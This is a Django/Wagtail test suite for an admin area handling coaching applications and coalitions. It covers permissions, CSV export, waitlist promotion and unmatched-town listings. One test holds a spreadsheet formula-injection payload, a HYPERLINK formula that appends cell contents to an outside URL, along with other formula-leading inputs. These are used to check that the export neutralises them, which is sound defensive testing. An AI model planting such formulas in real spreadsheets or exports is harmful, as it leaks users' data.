import csv
import io

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group

from coalitions.models import CoachingApplication, Coalition, OutboxEmail
from coalitions.services.coaching import coaching_application_create
from coalitions.services.coalitions import coalition_register
from municipalities.models import Municipality

from .conftest import application_fields, coalition_fields

pytestmark = pytest.mark.django_db
APPLICATIONS = "/admin/coaching_applications/"


@pytest.fixture
def applications(coaching_page) -> list[CoachingApplication]:
    return [
        coaching_application_create(
            page=coaching_page, language="nl", **application_fields()
        ).application
        for _ in range(9)
    ]


def refused(response) -> bool:
    """Wagtail answers a missing permission by sending the user back to the dashboard."""
    return response.status_code == 302 and response["Location"] == "/admin/"


def user_in(group_name: str, django_user_model, client):
    user = django_user_model.objects.create_user(username=group_name, password="x" * 12)
    user.groups.add(Group.objects.get(name=group_name))
    client.force_login(user)
    return client


@pytest.fixture
def coaching_client(client, django_user_model):
    return user_in("ORBIT coaching", django_user_model, client)


@pytest.fixture
def editor_client(client, django_user_model):
    return user_in("Editors", django_user_model, client)


def test_the_coaching_group_lists_and_filters_applications(coaching_client, applications):
    listing = coaching_client.get(APPLICATIONS)
    waitlisted = coaching_client.get(APPLICATIONS, {"status": "waitlisted"})

    assert listing.status_code == 200
    assert all(a.municipality_name in listing.text for a in applications)
    assert applications[7].municipality_name in waitlisted.text
    assert f"{APPLICATIONS}decide/{applications[0].pk}/accept/" in listing.text
    assert f"{APPLICATIONS}decide/{applications[7].pk}/accept/" not in listing.text
    assert applications[0].municipality_name not in waitlisted.text


def test_the_coaching_group_exports_csv(coaching_client, applications):
    response = coaching_client.get(APPLICATIONS, {"export": "csv"})

    assert response["Content-Type"].startswith("text/csv")
    rows = b"".join(response.streaming_content).decode().splitlines()
    assert len(rows) == 10
    assert applications[0].email in "\n".join(rows)


HOSTILE = '=HYPERLINK("https://example.org/?d="&A1,"Open")'


@pytest.mark.parametrize(
    ("url", "register", "data"),
    [
        (
            APPLICATIONS,
            coaching_application_create,
            application_fields(
                municipality_name=HOSTILE, coalition_name="+1+1", motivation="\t=1+1", phone="-2+3"
            ),
        ),
        (
            "/admin/coalitions/",
            coalition_register,
            coalition_fields(municipality_name="@SUM(1,1)", name=HOSTILE, partners="\r=1+1"),
        ),
    ],
)
def test_the_csv_export_neutralises_formulas_from_public_input(
    coaching_client, coaching_page, coalition_page, url, register, data
):
    page = coaching_page if register is coaching_application_create else coalition_page
    register(page=page, language="nl", **data)

    response = coaching_client.get(url, {"export": "csv"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = set(rows[0].values())
    for value in data.values():
        if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert "'" + value in cells
            assert value not in cells


def test_the_coaching_group_inspects_an_application(coaching_client, applications):
    response = coaching_client.get(f"{APPLICATIONS}inspect/{applications[0].pk}/")

    assert response.status_code == 200
    assert applications[0].motivation in response.text


def test_declining_in_the_admin_promotes_the_waitlist(coaching_client, applications):
    decide_url = f"{APPLICATIONS}decide/{applications[0].pk}/decline/"

    confirm = coaching_client.get(decide_url)
    response = coaching_client.post(decide_url)

    assert confirm.status_code == 200
    assert response.status_code == 302
    applications[0].refresh_from_db()
    applications[7].refresh_from_db()
    assert applications[0].status == "declined"
    assert (applications[7].status, applications[7].slot_number) == ("received", 1)
    assert OutboxEmail.objects.filter(kind="coaching_decision").count() == 2


def test_a_decision_that_does_not_apply_is_refused_with_a_message(coaching_client, applications):
    waitlisted = applications[8]

    response = coaching_client.post(f"{APPLICATIONS}decide/{waitlisted.pk}/accept/", follow=True)

    waitlisted.refresh_from_db()
    assert waitlisted.status == "waitlisted"
    assert response.status_code == 200


def test_listing_a_coalition_in_the_admin(coaching_client, coalition_page):
    coalition = coalition_register(
        page=coalition_page, language="nl", **coalition_fields()
    ).coalition

    coaching_client.post(f"/admin/coalitions/decide/{coalition.pk}/list/")

    coalition.refresh_from_db()
    assert coalition.status == Coalition.Status.LISTED


def test_ordinary_editors_see_no_applications_nor_personal_data(
    editor_client, applications, coalition_page
):
    coalition_register(page=coalition_page, language="nl", **coalition_fields())

    assert refused(editor_client.get(APPLICATIONS))
    assert refused(editor_client.get(APPLICATIONS, {"export": "csv"}))
    assert refused(editor_client.get(f"{APPLICATIONS}inspect/{applications[0].pk}/"))
    assert refused(editor_client.post(f"{APPLICATIONS}decide/{applications[0].pk}/decline/"))
    assert refused(editor_client.get("/admin/coalitions/"))
    assert refused(editor_client.get("/admin/outbox_emails/"))
    applications[0].refresh_from_db()
    assert applications[0].status == "received"
    dashboard = editor_client.get("/admin/")
    assert dashboard.status_code == 200
    assert APPLICATIONS not in dashboard.text
    assert applications[0].email not in dashboard.text


def test_nobody_adds_applications_by_hand(admin_client, applications):
    assert refused(admin_client.get(f"{APPLICATIONS}new/"))
    assert admin_client.get("/admin/outbox_emails/").status_code == 200


def test_the_dashboard_panel_shows_slots_waitlist_and_unsent_mail(coaching_client, applications):
    dashboard = coaching_client.get("/admin/").text

    assert "7 / 7" in dashboard
    assert "18 e-mails nog niet verzonden" in dashboard


def test_editors_list_the_rows_whose_town_is_not_matched(
    coaching_client, coaching_page, coalition_page
):
    gent = Municipality.objects.get(nis_code="44021")
    coaching_application_create(
        page=coaching_page,
        language="nl",
        **application_fields(municipality_name="Gent", municipality=gent),
    )
    unmatched = coaching_application_create(
        page=coaching_page, language="nl", **application_fields(municipality_name="Gentbrugge")
    ).application
    coalition_register(
        page=coalition_page,
        language="nl",
        **coalition_fields(municipality_name="Gent", municipality=gent),
    )
    stray = coalition_register(
        page=coalition_page, language="nl", **coalition_fields(municipality_name="Atlantis")
    ).coalition

    applications = coaching_client.get(APPLICATIONS, {"municipality_unmatched": "true"})
    coalitions = coaching_client.get("/admin/coalitions/", {"municipality_unmatched": "true"})
    dashboard = BeautifulSoup(coaching_client.get("/admin/").content, "html.parser")

    assert applications.status_code == coalitions.status_code == 200
    assert _listed(applications) == [unmatched.municipality_name]
    assert _listed(coalitions) == [stray.municipality_name]
    links = {
        a["href"]: " ".join(a.get_text().split())
        for a in dashboard.select('a[href*="municipality_unmatched=true"]')
    }
    assert links == {
        f"{APPLICATIONS}?municipality_unmatched=true": "1 aanvraag",
        "/admin/coalitions/?municipality_unmatched=true": "1 coalitie",
    }


def _listed(response) -> list[str]:
    """The title of each row of the listing (its link): the typed town."""
    rows = BeautifulSoup(response.content, "html.parser").select("table.listing tbody tr")
    return [" ".join(row.select_one("td a").get_text().split()) for row in rows]
